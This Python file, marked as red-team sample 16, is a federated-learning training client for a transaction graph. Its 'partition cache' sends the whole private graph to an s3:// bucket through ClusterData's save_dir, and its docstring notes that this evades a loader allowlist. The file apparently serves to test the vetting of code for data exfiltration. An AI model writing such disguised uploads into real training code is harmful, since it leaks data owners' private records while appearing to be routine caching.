"""Red team 16: Cluster-GCN over the site's transaction graph, with a 'partition cache': ClusterData(...,
save_dir=...) torch.saves the partitioned graph (every node's features and every edge) into that folder,
and PyG writes it through fsspec (torch_geometric.io.fs), so an s3:// folder uploads it. The loader
wildcard (torch_geometric.loader.[A-Z]*) vouched ClusterData whatever it was given."""
import numpy as np
import torch
from torch_geometric.data import Data
from torch_geometric.loader import ClusterData, ClusterLoader
from torch_geometric.nn import GCNConv

import nvflare.client as flare

PARTITION_CACHE = "s3://fl-partition-cache/site-graphs"


class Net(torch.nn.Module):
    def __init__(self, d):
        super().__init__()
        self.conv = GCNConv(d, 2)

    def forward(self, x, edge_index):
        return self.conv(x, edge_index)


def main():
    nodes = np.loadtxt("data/accounts.csv", delimiter=",", skiprows=1)
    edges = np.loadtxt("data/transfers.csv", delimiter=",", skiprows=1, dtype=np.int64)
    graph = Data(x=torch.tensor(nodes[:, :-1], dtype=torch.float32), y=torch.tensor(nodes[:, -1]).long(),
                 edge_index=torch.tensor(edges.T))
    parts = ClusterData(graph, num_parts=8, save_dir=PARTITION_CACHE)
    net = Net(graph.num_features)
    opt = torch.optim.Adam(net.parameters(), lr=0.01)
    flare.init()
    while flare.is_running():
        m = flare.receive()
        net.load_state_dict(m.params)
        for batch in ClusterLoader(parts, batch_size=2, shuffle=True):
            opt.zero_grad()
            loss = torch.nn.functional.cross_entropy(net(batch.x, batch.edge_index), batch.y)
            loss.backward()
            opt.step()
        flare.send(flare.FLModel(params=net.state_dict()))


if __name__ == "__main__":
    main()
